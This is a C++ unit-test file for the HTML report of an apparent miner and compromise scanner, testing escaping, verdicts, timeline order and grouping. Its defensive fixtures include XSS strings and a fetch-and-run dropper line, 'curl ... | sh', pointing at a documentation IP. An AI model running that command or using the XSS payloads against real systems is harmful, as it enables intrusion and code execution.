// The HTML report: escaping of hostile strings, the verdict, the timeline's
// order, grouping by container and check, and that the page references
// nothing outside itself.
#include "report/html_sink.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <sstream>

#include "report/sink.h"

namespace deminer {
namespace {

using Json = nlohmann::ordered_json;

Json ProcessEvidence(int pid, const std::string& cmdline, const std::string& started_at) {
  Json e;
  e["pid"] = pid;
  e["exe"] = "/tmp/javae";
  e["cmdline"] = cmdline;
  e["started_at"] = started_at;
  e["ancestry"] =
      Json::array({{{"pid", 700}, {"exe", "/usr/bin/node"}, {"cmdline", "node server.js"}},
                   {{"pid", 1}, {"exe", "/sbin/init"}, {"cmdline", "/sbin/init"}}});
  return e;
}

Finding Make(std::string check, Severity sev, Kind kind, std::string subject, Json evidence = {}) {
  Finding f;
  f.check = std::move(check);
  f.severity = sev;
  f.kind = kind;
  f.title = fmt::format("title of {}", f.check);
  f.subject = std::move(subject);
  f.evidence = evidence.is_null() ? Json::object() : std::move(evidence);
  f.remediation = "do the fix";
  f.attack = "T1496";
  return f;
}

std::string Page(ScanResult scan) {
  std::ostringstream out;
  auto sink = MakeSink(Format::kHtml, out, {});
  Render(*sink, RunInfo{"0.1.0", "deminer-default test", &scan});
  return out.str();
}

ScanResult BaseScan() {
  ScanResult r;
  r.host.hostname = "web-1";
  r.host.kernel = "6.1.0-test";
  r.started_at = std::chrono::system_clock::time_point(std::chrono::seconds(1795000000));
  r.duration_ms = 12.4;
  return r;
}

size_t Count(const std::string& text, const std::string& needle) {
  size_t n = 0;
  for (size_t at = text.find(needle); at != std::string::npos; at = text.find(needle, at + 1)) ++n;
  return n;
}

TEST(HtmlEscapeTest, EscapesMarkupAndReplacesBadBytes) {
  struct Case {
    std::string in;
    std::string want;
  };
  const Case cases[] = {
      {"plain /tmp/javae -o x", "plain /tmp/javae -o x"},
      {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
      {R"(a"b'c&d)", "a&quot;b&#39;c&amp;d"},
      {"caf\xC3\xA9 \xE2\x9C\x93", "caf\xC3\xA9 \xE2\x9C\x93"},  // valid UTF-8 kept
      {"x\xFFy", "x\xEF\xBF\xBDy"},                              // not UTF-8
      {"\xC0\xAF", "\xEF\xBF\xBD\xEF\xBF\xBD"},                  // overlong '/'
      {"\xED\xA0\x80", "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},  // a surrogate
      {"\xE2\x9C", "\xEF\xBF\xBD\xEF\xBF\xBD"},                  // cut short
      {"esc\x1b[2Jnul", "esc\xEF\xBF\xBD[2Jnul"},                // control character
      {"tab\tand\nnewline", "tab\tand\nnewline"},
  };
  for (const Case& c : cases) EXPECT_EQ(HtmlEscape(c.in), c.want) << c.in;
}

TEST(HtmlSinkTest, HostileStringsFromTheHostAppearAsText) {
  ScanResult scan = BaseScan();
  Finding f =
      Make("proc.miner", Severity::kCritical, Kind::kCompromise,
           "pid 812 /tmp/<script>alert(1)</script>",
           ProcessEvidence(812, "<script>alert(2)</script> -o pool:443", "2026-11-20T10:00:00Z"));
  f.evidence["ancestry"][0]["cmdline"] = "<img src=x onerror=alert(3)>";
  f.container = ContainerRef{"c0ffee", "</h3><script>x()</script>", "evil\"image", "docker", ""};
  scan.findings.push_back(f);
  scan.skipped.push_back({"<b>gap</b>", "<i>why</i>", ""});
  scan.host.hostname = "<marquee>host";
  const std::string page = Page(scan);
  EXPECT_EQ(Count(page, "<script"), 0u) << page;
  EXPECT_EQ(Count(page, "<img"), 0u);
  EXPECT_EQ(Count(page, "<marquee"), 0u);
  EXPECT_EQ(Count(page, "<b>gap"), 0u);
  EXPECT_NE(page.find("/tmp/&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
  EXPECT_NE(page.find("&lt;script&gt;alert(2)&lt;/script&gt; -o pool:443"), std::string::npos);
  EXPECT_NE(page.find("&lt;img src=x onerror=alert(3)&gt;"), std::string::npos);
  EXPECT_NE(page.find("evil&quot;image"), std::string::npos);
}

TEST(HtmlSinkTest, ReferencesNothingOutsideThePage) {
  ScanResult scan = BaseScan();
  scan.findings.push_back(Make("file.dropper-script", Severity::kHigh, Kind::kCompromise,
                               "/var/tmp/up.sh",
                               {{"path", "/var/tmp/up.sh"},
                                {"lines", {"curl -fsSL http://203.0.113.9/x.sh | sh"}},
                                {"url", "<a href=\"http://evil.example/\">x</a>"},
                                {"modified", "2026-11-20T10:00:00Z"}}));
  scan.exposure_scanned = true;
  const std::string page = Page(scan);
  for (const std::string bad : {"src=\"http", "href=\"http", "src='http", "href='http", "@import",
                                "url(", "<script", "<link", "<img", "<iframe", "<object"}) {
    EXPECT_EQ(Count(page, bad), 0u) << bad;
  }
  // The hostile URL is there, as text.
  EXPECT_NE(page.find("curl -fsSL http://203.0.113.9/x.sh | sh"), std::string::npos);
  EXPECT_NE(page.find("&lt;a href=&quot;http://evil.example/&quot;&gt;"), std::string::npos);
  EXPECT_NE(page.find("<style>"), std::string::npos);
  EXPECT_NE(page.find("@media print"), std::string::npos);
  EXPECT_TRUE(page.starts_with("<!DOCTYPE html>"));
  EXPECT_TRUE(page.ends_with("</html>\n"));
}

TEST(HtmlSinkTest, VerdictFollowsKindAndSeverity) {
  struct Case {
    std::vector<std::pair<Severity, Kind>> findings;
    std::string want;
    std::string reason_has;
  };
  const Case cases[] = {
      {{}, "clean", "no sign of compromise and no weakness"},
      {{{Severity::kInfo, Kind::kWeakness}}, "clean", "no weakness"},
      {{{Severity::kMedium, Kind::kWeakness}}, "weak", "1 weakness could let one in"},
      {{{Severity::kMedium, Kind::kCompromise}}, "clean", "1 lower-severity sign of compromise"},
      {{{Severity::kLow, Kind::kWeakness}, {Severity::kMedium, Kind::kCompromise}},
       "weak",
       "to review"},
      {{{Severity::kHigh, Kind::kCompromise}}, "compromised", "1 sign of compromise at high"},
      {{{Severity::kCritical, Kind::kWeakness},
        {Severity::kHigh, Kind::kCompromise},
        {Severity::kCritical, Kind::kCompromise}},
       "compromised",
       "2 signs of compromise"},
  };
  for (const Case& c : cases) {
    std::vector<Finding> findings;
    for (const auto& [sev, kind] : c.findings) {
      findings.push_back(Make(sev == Severity::kCritical ? "worst" : "x", sev, kind, "s"));
    }
    const Verdict v = JudgeFindings(findings);
    EXPECT_EQ(v.word, c.want) << c.findings.size();
    EXPECT_NE(v.reason.find(c.reason_has), std::string::npos) << v.reason;
  }
  // The worst one is named.
  const Verdict v = JudgeFindings({Make("a", Severity::kHigh, Kind::kCompromise, "pid 9 a"),
                                   Make("b", Severity::kCritical, Kind::kCompromise, "pid 812 b")});
  EXPECT_NE(v.reason.find("title of b (pid 812 b)"), std::string::npos) << v.reason;

  ScanResult scan = BaseScan();
  scan.findings.push_back(Make("proc.miner", Severity::kCritical, Kind::kCompromise, "pid 812"));
  EXPECT_NE(Page(scan).find("<div id=\"verdict\" class=\"compromised\"><span class=\"word\">"
                            "compromised</span>"),
            std::string::npos);
  EXPECT_NE(Page(BaseScan()).find("<div id=\"verdict\" class=\"clean\">"), std::string::npos);
}

TEST(HtmlSinkTest, IsTheHtmlFormat) { EXPECT_EQ(ParseFormat("html"), Format::kHtml); }

TEST(HtmlSinkTest, TimelineIsOldestFirstAndMergesTheSameMoment) {
  std::vector<Finding> findings;
  // Scan order: most severe first, which is not time order.
  findings.push_back(Make("proc.miner", Severity::kCritical, Kind::kCompromise, "pid 812",
                          ProcessEvidence(812, "/tmp/javae -o pool:443", "2026-11-20T12:00:00Z")));
  Json net;
  net["remote"] = "198.51.100.7:443";
  net["process"] = ProcessEvidence(812, "/tmp/javae -o pool:443", "2026-11-20T12:00:00Z");
  findings.push_back(Make("net.pool-connection", Severity::kHigh, Kind::kCompromise, "tcp", net));
  findings.push_back(Make("file.exe-in-temp", Severity::kHigh, Kind::kCompromise, "/tmp/javae",
                          {{"path", "/tmp/javae"},
                           {"modified", "2026-11-20T11:59:00Z"},
                           {"changed", "2026-11-20T11:59:00Z"}}));
  findings.push_back(Make("log.match", Severity::kMedium, Kind::kCompromise, "/var/log/auth.log",
                          {{"rule", "ssh-brute-force"},
                           {"log", "/var/log/auth.log"},
                           {"first_seen", "2026-11-19T08:00:00Z"},
                           {"last_seen", "2026-11-20T11:58:00Z"}}));
  findings.push_back(Make("proc.hidden", Severity::kLow, Kind::kCompromise, "no times here"));

  const std::vector<TimelineEvent> events = BuildTimeline(findings);
  ASSERT_EQ(events.size(), 4u);
  EXPECT_EQ(events[0].what, "first matching log line");
  EXPECT_EQ(events[0].detail, "ssh-brute-force in /var/log/auth.log");
  EXPECT_EQ(events[1].what, "last matching log line");
  EXPECT_EQ(events[2].what, "file modified");  // ctime equal to mtime: one event
  EXPECT_EQ(events[2].detail, "/tmp/javae");
  EXPECT_EQ(events[3].what, "process started");
  EXPECT_EQ(events[3].detail, "pid 812 /tmp/javae -o pool:443");
  EXPECT_EQ(events[3].findings, (std::vector<size_t>{0, 1}));  // the miner and its socket
  EXPECT_EQ(events[3].severity, Severity::kCritical);
  for (size_t i = 1; i < events.size(); ++i) EXPECT_LE(events[i - 1].time, events[i].time);

  ScanResult scan = BaseScan();
  scan.findings = findings;
  const std::string page = Page(scan);
  const size_t timeline = page.find("id=\"timeline\"");
  const size_t log = page.find("first matching log line", timeline);
  const size_t file = page.find("file modified", timeline);
  const size_t proc = page.find("process started", timeline);
  ASSERT_NE(timeline, std::string::npos);
  EXPECT_LT(log, file);
  EXPECT_LT(file, proc);
  EXPECT_LT(proc, page.find("id=\"findings\""));
  EXPECT_EQ(Count(page, "<li class=\"event "), 4u);
  EXPECT_NE(page.find("<a href=\"#f-0\">title of proc.miner</a> &middot; <a href=\"#f-1\">"),
            std::string::npos);
}

TEST(HtmlSinkTest, GroupsByContainerThenCheckMostSevereFirst) {
  ScanResult scan = BaseScan();
  const ContainerRef web{"c0ffee0123456789", "barofarm-frontend", "next:1", "docker", ""};
  const auto in = [&](Finding f) {
    f.container = web;
    return f;
  };
  scan.findings.push_back(in(Make("proc.miner", Severity::kCritical, Kind::kCompromise, "pid 812",
                                  ProcessEvidence(812, "javae", "2026-11-20T12:00:00Z"))));
  scan.findings.push_back(Make("file.hidden", Severity::kMedium, Kind::kCompromise, "/tmp/.x"));
  scan.findings.push_back(in(Make("container.root-user", Severity::kLow, Kind::kWeakness, "web")));
  scan.findings.push_back(in(Make("proc.miner", Severity::kHigh, Kind::kCompromise, "pid 813")));
  scan.findings.push_back(
      Make("persist.cron", Severity::kHigh, Kind::kCompromise, "/etc/cron.d/x"));
  const std::string page = Page(scan);

  // Groups: the container (critical) before the host (high).
  const size_t container = page.find("data-container=\"c0ffee0123456789\"");
  const size_t host = page.find("data-container=\"\"");
  ASSERT_NE(container, std::string::npos);
  ASSERT_NE(host, std::string::npos);
  EXPECT_LT(container, host);
  EXPECT_NE(page.find("barofarm-frontend</span> <span class=\"sub\">image next:1"),
            std::string::npos);
  // In the container: proc.miner's two findings together, then the weakness.
  const size_t miner = page.find("class=\"check-group\" data-check=\"proc.miner\"");
  const size_t f0 = page.find("id=\"f-0\"");
  const size_t f3 = page.find("id=\"f-3\"");
  const size_t root = page.find("class=\"check-group\" data-check=\"container.root-user\"");
  EXPECT_LT(container, miner);
  EXPECT_LT(miner, f0);
  EXPECT_LT(f0, f3);
  EXPECT_LT(f3, root);
  EXPECT_LT(root, host);
  // On the host: persist.cron (high) before file.hidden (medium).
  EXPECT_LT(host, page.find("data-check=\"persist.cron\""));
  EXPECT_LT(page.find("data-check=\"persist.cron\""), page.find("data-check=\"file.hidden\""));
  EXPECT_EQ(Count(page, "<article class=\"finding "), 5u);
  EXPECT_EQ(Count(page, "<section class=\"group\""), 2u);
}

TEST(HtmlSinkTest, DrawsAncestryFromTheTopDownToTheFlaggedProcess) {
  ScanResult scan = BaseScan();
  scan.findings.push_back(Make("proc.miner", Severity::kCritical, Kind::kCompromise, "pid 812",
                               ProcessEvidence(812, "/tmp/javae -o pool:443", "")));
  const std::string page = Page(scan);
  const size_t tree = page.find("<div class=\"ancestry\">");
  ASSERT_NE(tree, std::string::npos);
  const size_t init = page.find("<span class=\"pid\">1</span>", tree);
  const size_t node = page.find("<span class=\"pid\">700</span>", tree);
  const size_t miner = page.find("<li class=\"flagged\">", tree);
  EXPECT_LT(init, node);
  EXPECT_LT(node, miner);
  EXPECT_NE(
      page.find("<span class=\"pid\">812</span><span class=\"cmd\">/tmp/javae -o pool:443", miner),
      std::string::npos);
  // Balanced: three nested lists, each closed.
  const size_t end = page.find("</div>", miner);
  const std::string html = page.substr(tree, end - tree);
  EXPECT_EQ(Count(html, "<ul"), 3u);
  EXPECT_EQ(Count(html, "</ul>"), 3u);
  EXPECT_EQ(Count(html, "<li"), Count(html, "</li>"));
  // Without a start time the process has no timeline event.
  EXPECT_EQ(Count(page, "<li class=\"event "), 0u);
}

TEST(HtmlSinkTest, ShowsExposureAndGapsWhenThereAreAny) {
  ScanResult scan = BaseScan();
  EXPECT_EQ(Page(scan).find("id=\"exposure\""), std::string::npos);
  EXPECT_EQ(Page(scan).find("id=\"skipped\""), std::string::npos);
  EXPECT_NE(Page(scan).find("Nothing found."), std::string::npos);
  scan.exposure_scanned = true;
  ExposureRow open;
  open.address = "0.0.0.0";
  open.port = 6379;
  open.pid = 42;
  open.process = "redis-server";
  open.service = "redis";
  open.sensitive = true;
  open.verdict = Reach::kReachableSensitive;
  open.reason = "no rule drops it";
  ExposureRow local = open;
  local.address = "127.0.0.1";
  local.port = 5432;
  local.verdict = Reach::kLocal;
  scan.exposure = {open, local};
  scan.skipped.push_back(
      {"sockets in netns 4026532181", "setns: Operation not permitted", "root or CAP_SYS_ADMIN"});
  const std::string page = Page(scan);
  const size_t exposure = page.find("id=\"exposure\"");
  ASSERT_NE(exposure, std::string::npos);
  EXPECT_NE(page.find("0.0.0.0:6379", exposure), std::string::npos);
  EXPECT_NE(page.find("redis-server (42)", exposure), std::string::npos);
  EXPECT_EQ(page.find("127.0.0.1:5432"), std::string::npos);  // local: counted, not listed
  EXPECT_NE(page.find("1 local only"), std::string::npos);
  const size_t skipped = page.find("id=\"skipped\"");
  ASSERT_NE(skipped, std::string::npos);
  EXPECT_LT(exposure, skipped);
  EXPECT_NE(page.find("(needs root or CAP_SYS_ADMIN)", skipped), std::string::npos);
}

}  // namespace
}  // namespace deminer
